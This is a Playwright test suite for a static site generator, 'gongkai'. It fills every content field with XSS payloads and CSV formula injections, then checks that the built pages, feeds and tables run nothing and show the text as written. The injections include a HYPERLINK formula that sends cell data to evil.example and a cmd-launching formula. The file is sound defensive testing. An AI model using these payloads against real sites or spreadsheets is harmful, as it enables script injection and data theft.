// Words that would run somewhere, put into every text of the content: no page runs any of them, and all of them read as written.
import { expect, test } from "@playwright/test";
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";

const gongkai = resolve(process.env.GONGKAI ?? join(dirname(fileURLToPath(import.meta.url)), "../../target/release/gongkai"));

// `ran()` is what they want to call.
const payloads = {
  script: "<script>ran('script')</script>",
  image: "<img src=x onerror=ran('image')>",
  attribute: `"><svg onload=ran('attribute')>`,
  single: "' onmouseover='ran(1)' x='",
  unquoted: "x onfocus=ran(1) autofocus tabindex=1",
  title: "</title><script>ran('title')</script>",
  json: "</script><script>ran('json')</script><!--",
  comment: "--!><script>ran('comment')</script>",
  atom: "]]><script>ran('atom')</script><![CDATA[",
  template: "{{ 7 * 7 }}{% raw %}{# no #}{%- if x -%}${7*7}",
  escape: "\\u003cscript\\u003eran(1)\\x3c/script\\x3e",
  separators: "a\u2028ran('line')\u2029b",
  entity: "&lt;b&gt;&amp;amp;&#60;script&#62;",
  formula: `=HYPERLINK("http://evil.example/?"&A1,"x")`,
  command: "@SUM(1+9)*cmd|' /C calc'!A0",
  plus: "+1+cmd|' /C calc'!A0",
  url: "javascript:ran('url')",
  style: "</style><style>*{display:none}",
  markup: "**x** [y](javascript:ran(2)) ![z](https://evil.example/z.png) <b>",
};

const names = Object.keys(payloads);
// JSON is YAML; what YAML reads as a text of its own is what JSON says.
const yaml = (value) => JSON.stringify(value).replaceAll("\u2028", "\\u2028").replaceAll("\u2029", "\\u2029");
/** A text in both languages: the English one is another payload. */
const text = (at) => ({ zh: `甲${payloads[names[at % names.length]]}乙`, en: `b${payloads[names[(at + 1) % names.length]]}e` });

let folder, out;

test.beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "gongkai-hostile-"));
  out = join(folder, "public");
  const write = (path, value) => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), typeof value === "string" ? value : yaml(value));
  };
  write("content/site.yaml", {
    title: text(0), publisher: text(5), languages: ["zh", "en"], base_url: "https://example.gov.cn/",
    licence: { name: text(6), url: "https://example.gov.cn/l" }, contact: { phone: text(7), email: text(8), address: text(9) },
    identifiers: { icp: payloads.script, site_id_code: payloads.attribute },
    // Chinese and English are different payloads on purpose, with different figures.
    rules: { GK0307: "off" },
  });
  const departments = {};
  names.forEach((name, at) => {
    departments[`bureau-${name}`] = { name: text(at), short: text(at + 3), contact: { phone: text(at), email: text(at + 1), address: text(at + 2) } };
    for (const year of [2023, 2024]) {
      write(`content/${year}/bureau-${name}/overall-target.yaml`, {
        published: `${year}-02-18`, source: text(at + 4), approval_no: payloads[name],
        attachments: [{ file: "note.pdf", title: text(at + 5) }],
        revisions: [{ date: `${year}-03-01`, what: text(at + 6), why: text(at + 7), old: text(at + 8), new: text(at + 9) }],
        tasks: [{ name: text(at), description: text(at + 1), total: year, fiscal: year }],
        goals: [{ label: payloads[name], ...text(at + 2) }],
        indicators: { output: { quantity: [{ name: text(at + 3), target: payloads[name] }, { name: text(at + 4), target: `=${year}${payloads[name]}` }] } },
      });
      write(`content/${year}/bureau-${name}/note.pdf`, "%PDF-1.7\n");
    }
    write(`content/2025/bureau-${name}/notice.yaml`, { kind: "withheld", what: text(at), why: text(at + 1) });
  });
  write("content/departments.yaml", departments);
  // In Markdown, an address that would run or load something is refused; see the last test. Markup of HTML is not let through.
  const page = names.filter((name) => name !== "markup").map((name) => payloads[name]).join("\n\n");
  write("content/pages/about.zh.md", `---\ntitle: ${yaml(text(2).zh)}\n---\n\n${page}\n`);
  write("content/pages/about.en.md", `---\ntitle: ${yaml(text(2).en)}\n---\n\n${page}\n`);
  execFileSync(gongkai, ["build", "--quiet", "--site", folder], { stdio: ["ignore", "ignore", "pipe"] });
});

test.afterAll(() => rmSync(folder, { recursive: true, force: true }));

const files = (end) => readdirSync(out, { recursive: true, encoding: "utf8" }).filter((path) => path.endsWith(end)).sort();

test("no page runs anything, and none holds what could", async ({ page }) => {
  const ran = [];
  await page.exposeFunction("ran", (what) => void ran.push(what));
  page.on("dialog", (dialog) => (ran.push(dialog.message()), dialog.dismiss()));
  page.on("pageerror", (error) => ran.push(String(error)));
  page.on("request", (request) => request.url().startsWith("file:") || ran.push(request.url()));
  const pages = files(".html");
  expect(pages.length).toBeGreaterThan(100);
  for (const path of pages) {
    await page.goto(pathToFileURL(join(out, path)).href);
    const found = await page.evaluate(() => {
      const all = [...document.querySelectorAll("*")];
      return {
        handlers: all.flatMap((element) => element.getAttributeNames().filter((name) => /^on|^style$|^srcdoc$/.test(name))),
        scripts: [...document.scripts].filter((script) => script.type !== "application/ld+json" && !/^file:.*\/assets\//.test(script.src)).length,
        addresses: all.flatMap((element) => ["href", "src", "action", "formaction", "data"].map((name) => element.getAttribute(name))).filter((url) => url && /^\s*(javascript|data|vbscript):/i.test(url)),
        descriptions: [...document.querySelectorAll("script[type='application/ld+json']")].map((script) => typeof JSON.parse(script.text)),
        strange: all.filter((element) => /^(b|iframe|object|embed|base)$/i.test(element.localName)).map((element) => element.outerHTML),
      };
    });
    expect(found, path).toEqual({ handlers: [], scripts: 0, addresses: [], descriptions: found.descriptions.map(() => "object"), strange: [] });
  }
  expect(ran).toEqual([]);
});

/** As a reader sees them: a browser shows line separators as spaces. */
const seen = (words) => words.replace(/[\u2028\u2029\s]+/g, " ").trim();

test("everything reads as written", async ({ page }) => {
  for (const [at, name] of names.entries()) {
    await page.goto(pathToFileURL(join(out, `zh/2024/bureau-${name}.html`)).href);
    const shown = seen(await page.evaluate(() => document.body.textContent));
    for (const offset of [0, 1, 2, 3, 4, 5, 6, 7, 8, 9]) {
      expect(shown, `${name}: text ${offset}`).toContain(seen(text(at + offset).zh));
    }
    expect(seen(await page.title()), name).toContain(seen(text(at).zh));
    await page.goto(pathToFileURL(join(out, `en/2024/bureau-${name}.html`)).href);
    expect(seen(await page.evaluate(() => document.body.textContent)), name).toContain(seen(text(at).en));
  }
});

test("search shows them as words", async ({ page }) => {
  const ran = [];
  await page.exposeFunction("ran", (what) => void ran.push(what));
  for (const query of ["script", "onerror", "cmd", "javascript", "49"]) {
    await page.goto("about:blank");
    await page.goto(`${pathToFileURL(join(out, "zh/search.html")).href}#q=${query}`);
    await expect(page.locator("#search-status")).not.toBeEmpty();
    if (query === "script") await expect(page.locator("#search-results > li").first()).toBeVisible();
    expect(await page.locator("#search-results script, #search-results img, #search-results svg").count()).toBe(0);
  }
  expect(ran).toEqual([]);
});

test("tables, feeds and data hold words, not formulas and markup", async ({ page }) => {
  for (const path of files(".csv")) {
    const rows = readFileSync(join(out, path), "utf8").replace(/^\uFEFF/, "");
    const cells = [...rows.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, quoted, plain]) => quoted ?? plain);
    const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
    expect(formulas, path).toEqual([]);
  }
  for (const path of files(".json")) JSON.parse(readFileSync(join(out, path), "utf8"));
  await page.goto("about:blank");
  for (const path of [...files(".xml"), ...files(".svg")]) {
    const names = await page.evaluate((xml) => {
      const parsed = new DOMParser().parseFromString(xml, "application/xml");
      return [...parsed.querySelectorAll("*")].map((element) => element.localName);
    }, readFileSync(join(out, path), "utf8"));
    expect(names.filter((name) => /^(parsererror|script|img|style)$/.test(name)), path).toEqual([]);
  }
});

test("Markdown that would run or load something is refused, with its place", () => {
  for (const link of ["[y](javascript:ran(2))", "[y](JaVaScRiPt&#58;ran(2))", "[y](data:text/html,x)", "![z](https://evil.example/z.png)", "[y](vbscript:x)"]) {
    const page = join(folder, "content/pages/about.en.md");
    const before = readFileSync(page, "utf8");
    writeFileSync(page, `${before}\n${link}\n`);
    let answer = { status: 0, stderr: "" };
    try {
      execFileSync(gongkai, ["check", "--quiet", "--site", folder], { stdio: "pipe", encoding: "utf8" });
    } catch (error) {
      answer = error;
    }
    writeFileSync(page, before);
    expect(answer.status, link).toBe(1);
    expect(answer.stderr, link).toContain("about.en.md:");
  }
});
